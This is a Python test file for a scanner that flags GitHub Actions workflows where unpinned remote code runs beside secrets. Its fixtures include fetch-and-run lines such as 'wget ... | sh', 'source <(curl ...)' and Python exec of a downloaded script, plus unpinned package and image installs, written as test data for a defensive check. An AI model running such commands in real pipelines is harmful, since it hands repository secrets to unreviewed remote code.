"""Classes of leaks that a ninth stranger planted, in other forms than theirs. Values are made at run time, or stand in pieces."""

from __future__ import annotations

import pytest

from nhsr_registry.checks._base import Subject
from nhsr_registry.checks.workflow_safe import WorkflowSafe
from nhsr_registry.model import Finding
from nhsr_registry.snapshot import Snapshot

PUSH = "on:\n  push:\n    branches: [main]\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
GIVEN = "        env:\n          GITHUB_PAT: ${{ secrets.PAT }}\n"
OF_JOB = "    env:\n      T: ${{ secrets.T }}\n"
RAW = "https://gist.github" + "usercontent.com/x/raw/q"
STEP = "    steps:\n      - run: "


def of_workflow(text: str) -> Finding:
    return WorkflowSafe.run(Subject(snapshot=Snapshot.of({".github/workflows/a.yml": text})))


@pytest.mark.parametrize(
    "job",
    [
        f"{OF_JOB}{STEP}wget -qO- {RAW}.sh | sh\n",
        f"{OF_JOB}{STEP}|\n          curl -o i.sh https://example.org/i.sh\n          bash i.sh\n",
        f"{STEP}source <(curl -s {RAW}.sh)\n{GIVEN}",
        f"{STEP}Rscript -e 'source(\"{RAW}.R\")'\n{GIVEN}",
        f"{STEP}Rscript -e 'devtools::source_url(\"https://example.org/a.R\")'\n{GIVEN}",
        f"{STEP}python -c \"import urllib.request as u; exec(u.urlopen('{RAW}.py').read())\"\n{GIVEN}",
        f"    permissions:\n      contents: write\n{STEP}curl -s {RAW}.sh | sh\n",
        f"{STEP}Rscript -e 'remotes::install_github(\"someone/helpers\")'\n{GIVEN}",
        f"{STEP}Rscript -e 'pak::pak(\"someone/helpers\")'\n{GIVEN}",
        f"{STEP}pip install git+https://github.com/someone/tool.git\n{GIVEN}",
        f"{STEP}pip install git+https://github.com/someone/tool@main\n{GIVEN}",
        f"{STEP}npx someone/tool\n{GIVEN}",
        f"{STEP}git clone https://github.com/someone/tool && ./tool/run.sh\n{GIVEN}",
        "    container:\n      image: someone/docs-plus:latest\n      env:\n        T: ${{ secrets.T }}\n    steps:\n      - run: make\n",
        f"{STEP}docker run -e T=${{{{ secrets.T }}}} someone/tool\n",
        "    steps:\n      - uses: docker://someone/tool:latest\n        env:\n          T: ${{ secrets.T }}\n",
    ],
)
def test_what_runs_unseen_beside_a_secret(job: str):
    assert of_workflow(PUSH + job).outcome == "fail"


@pytest.mark.parametrize(
    "job",
    [
        f"{STEP}Rscript -e 'remotes::install_github(\"someone/helpers@v1.2\")'\n{GIVEN}",
        f"{STEP}Rscript -e 'remotes::install_github(\"r-lib/pkgdown\")'\n{GIVEN}",
        f"{STEP}Rscript -e 'remotes::install_github(\"someone/helpers\")'\n{GIVEN.replace('PAT }', 'GITHUB_TOKEN }')}",
        f"{STEP}pip install git+https://github.com/someone/tool@v1.0\n{GIVEN}",
        f"{STEP}pip install git+https://github.com/someone/tool\n",
        f"{OF_JOB}{STEP}|\n          curl -o i.sh https://example.org/i.sh\n          sha256sum -c i.sum\n          bash i.sh\n",
        "    container: rocker/verse:latest\n    env:\n      T: ${{ secrets.T }}\n    steps:\n      - run: make\n",
        f"    container:\n      image: someone/docs@sha256:{'a' * 64}\n{OF_JOB}{STEP}make\n",
        f"    services:\n      db:\n        image: postgres:15\n        env:\n          P: ${{{{ secrets.P }}}}\n{STEP}make\n",
        f"{STEP}docker run -v ${{{{ github.workspace }}}}/data:/data python:3.12 make\n{GIVEN}",
        f"{OF_JOB}{STEP}|\n          # curl {RAW}.sh | sh\n          make\n",
    ],
)
def test_what_is_pinned_known_or_beside_no_secret(job: str):
    assert of_workflow(PUSH + job).outcome == "pass"


def test_a_runner_of_ones_own_is_to_look_at_and_sure_on_pull_requests():
    steps = "jobs:\n  a:\n    runs-on:\n      group: ours\n      labels: [self-hosted]\n    steps:\n      - run: make\n"
    found = of_workflow(f"on: push\n{steps}")
    assert ["please look" in (one.note or "") for one in found.evidence] == [True]
